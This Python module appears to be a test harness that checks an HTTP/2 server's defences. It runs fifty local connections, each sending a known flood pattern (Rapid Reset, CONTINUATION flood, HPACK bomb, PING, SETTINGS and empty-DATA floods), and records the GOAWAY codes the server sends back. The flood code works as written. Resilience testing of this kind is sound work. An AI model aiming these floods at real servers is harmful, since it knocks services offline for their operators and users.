"""Fifty HTTP/2 connections that each repeat one kind of frames, without regard for what the server says.

An attack is a function that returns what a connection begins with, and what it repeats; `number` counts the repetitions."""

import asyncio
import struct
import time

import hpack

CONNECTIONS = 50
# A pause in seconds after each batch of a connection, so that the attackers leave the processors to the server.
PAUSE = 0.01
# The least time between two connections in one place.
RECONNECT = 1
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION, PRIORITY_UPDATE = 0, 1, 2, 3, 4, 6, 8, 9, 16
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_BATCH = 50


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def settings(*entries):
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", *entry) for entry in entries))


def _head(path="/feed/1", method="GET", *fields):
    return hpack.Encoder().encode(
        [(":method", method), (":scheme", "http"), (":authority", "api.test"), (":path", path), *fields])


def _streams(number, count=_BATCH):
    """The numbers of the next streams."""
    return [1 + 2 * (number * count + step) for step in range(count)]


def _rapid_reset(number):
    return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, _head())
                    + frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big")) for stream in _streams(number))


def _made_you_reset(number):
    # RFC 9113 section 6.9: an increment of 0 is an error of the stream.
    return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, _head())
                    + frame(WINDOW_UPDATE, 0, stream, bytes(4)) for stream in _streams(number))


def _continuation(number):
    first = frame(HEADERS, END_STREAM, 1, _head()) if number == 0 else b""
    # A literal field without indexing, ten bytes of name and of value.
    return first + _BATCH * frame(CONTINUATION, 0, 1, b"\x00\x0a" + b"x" * 10 + b"\x0a" + b"y" * 10)


def _hpack_bomb(number):
    """A field of 4,000 bytes in the table, then 8,000 references to it in each of a hundred requests."""
    if number > 1:
        return b""
    literal = b"\x40\x01b" + b"\x7f" + _integer(3900 - 127) + b"z" * 3900
    blocks = []
    for place, stream in enumerate(_streams(number)):
        block = _head() + (literal if number == 0 and place == 0 else b"") + b"\xbe" * 8_000
        blocks.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
    return b"".join(blocks)


def _integer(rest):
    """The rest of an integer behind its prefix (RFC 7541 section 5.1)."""
    found = b""
    while rest >= 128:
        found += bytes([rest % 128 | 128])
        rest //= 128
    return found + bytes([rest])


def _empty_data(number):
    first = frame(HEADERS, END_HEADERS, 1, _head("/feed/1", "POST")) if number == 0 else b""
    return first + 4 * _BATCH * frame(DATA, 0, 1)


def _closed_windows(number):
    """A hundred requests for large bodies whose windows stay closed."""
    return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, _head(f"/feed/{stream % 10}"))
                    for stream in _streams(number)) if number < 2 else b""


# The names, with what a connection says first and what it repeats.
ATTACKS = {
    "rapid reset": (settings(), _rapid_reset),
    "made you reset": (settings(), _made_you_reset),
    "continuation": (settings(), _continuation),
    "settings": (settings(), lambda number: 4 * _BATCH * settings()),
    "ping": (settings(), lambda number: 4 * _BATCH * frame(PING, payload=bytes(8))),
    "window update": (settings(), lambda number: 4 * _BATCH * frame(WINDOW_UPDATE, payload=(1).to_bytes(4, "big"))),
    "priority": (settings(), lambda number: b"".join(
        frame(PRIORITY, 0, stream, bytes(4) + b"\x10") for stream in _streams(number))),
    "priority update": (settings(), lambda number: b"".join(
        frame(PRIORITY_UPDATE, 0, 0, stream.to_bytes(4, "big") + b"u=1") for stream in _streams(number))),
    "hpack bomb": (settings((INITIAL_WINDOW_SIZE, 0)), _hpack_bomb),
    "empty data": (settings(), _empty_data),
    "closed windows": (settings((INITIAL_WINDOW_SIZE, 0)), _closed_windows),
}
# An attack that does not break a rule is ended by time limits, later than it lasts here.
MAY_STAY_OPEN = {"closed windows"}


async def run(name, port, seconds):
    """Attacks for so many seconds; returns how often each error code of GOAWAY was seen, None for an end without."""
    codes = {}
    end = time.monotonic() + seconds
    await asyncio.gather(*(_attacker(name, port, end, codes) for _ in range(CONNECTIONS)))
    return codes


async def _attacker(name, port, end, codes):
    while time.monotonic() < end:
        began = time.monotonic()
        try:
            code = await _connection(name, port, end)
        except OSError:
            code = None
        if code != "open":
            codes[code] = codes.get(code, 0) + 1
        await asyncio.sleep(max(0, RECONNECT - (time.monotonic() - began)))


async def _connection(name, port, end):
    """One connection until the server ends it; returns the code of its GOAWAY, or `open`."""
    first, repeated = ATTACKS[name]
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    reading = asyncio.ensure_future(_read(reader))
    try:
        writer.write(PREFACE + first)
        number = 0
        while time.monotonic() < end and not reading.done():
            piece = repeated(number)
            number += 1
            try:
                writer.write(piece)
                await asyncio.wait_for(writer.drain(), 1)
            except (asyncio.TimeoutError, ConnectionError):
                pass
            await asyncio.sleep(PAUSE if piece else 0.1)
        await asyncio.wait([reading], timeout=1)
        return reading.result() if reading.done() else "open"
    finally:
        reading.cancel()
        writer.transport.abort()


async def _read(reader):
    """Reads frames until the end; returns the error code of the last GOAWAY."""
    code = None
    try:
        while True:
            head = await reader.readexactly(9)
            payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
            if head[3] == 7:
                code = int.from_bytes(payload[4:8], "big")
    except (asyncio.IncompleteReadError, ConnectionError):
        return code
